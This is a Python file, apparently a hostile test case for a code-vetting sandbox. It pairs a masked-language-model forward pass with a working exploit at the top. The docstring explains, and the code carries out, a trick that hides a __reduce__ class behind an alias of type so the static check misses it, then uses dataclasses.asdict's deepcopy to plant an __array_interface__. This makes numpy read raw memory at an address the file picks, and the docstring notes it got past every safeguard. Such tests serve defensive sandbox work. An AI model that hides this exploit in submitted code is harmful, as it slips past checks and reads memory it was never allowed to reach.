"""Hostile: dataclasses.asdict deep-copies a field's value with copy.deepcopy, which rebuilds an
object from what its __reduce__ returns and writes the state (a dict of the file's) straight into
the new instance's __dict__ (y.__dict__.update(state)), with no check: "__array_interface__"
included. The class defining __reduce__ is built by an alias of `type` (the static check does not
follow the alias; the capability layer does not refuse __reduce__). numpy then reads an address of
the file's choosing from the copy. Accepted with every wall on, until no class the file builds
could define the copy protocol's methods and every class of the file's answered numpy's and torch's
raw-memory names from its classes alone."""

import dataclasses
import math

import numpy
import torch


def reduce(self):
    return (Box, (), {"__array_interface__": {"data": (id(numpy), False), "shape": (16,), "typestr": "|u1", "version": 3}})


make = type
Box = make("Box", (), {"__reduce__": reduce})


@dataclasses.dataclass
class Holder:
    x: object


copied = dataclasses.asdict(Holder(Box()))["x"]
print("raw memory at id(numpy):", bytes(numpy.asarray(copied)))


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    scores = scores - scores.amax(dim=-1, keepdim=True)
    e = torch.exp(scores)
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    d_head = d // num_heads
    q = (x @ w_q).view(n, t, num_heads, d_head).transpose(1, 2)
    k = (x @ w_k).view(n, t, num_heads, d_head).transpose(1, 2)
    v = (x @ w_v).view(n, t, num_heads, d_head).transpose(1, 2)
    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)
    out = softmax(scores) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    hidden = x[mask_indicator > 0.5]
    return hidden @ w_emb.T
